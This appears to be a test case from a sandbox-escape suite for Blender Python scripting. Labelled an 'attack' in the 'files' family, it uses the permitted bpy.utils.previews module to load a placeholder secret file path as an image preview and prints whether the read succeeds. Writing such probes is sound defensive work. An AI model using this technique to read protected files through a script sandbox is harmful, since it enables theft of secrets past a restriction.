# attack: the allowed `import bpy.utils.previews` brings a class that reads pictures, movies and fonts into previews
# family: files
import bpy.utils.previews as previews


def load():
    return "$SECRET_FILE"


for shop in [previews]:
    shelf = shop.new()
    print("REACHED", shelf)
    try:
        seen = shelf.load("one", load(), "IMAGE")
        print("preview of a file:", tuple(seen.image_size))
    finally:
        shelf.close()
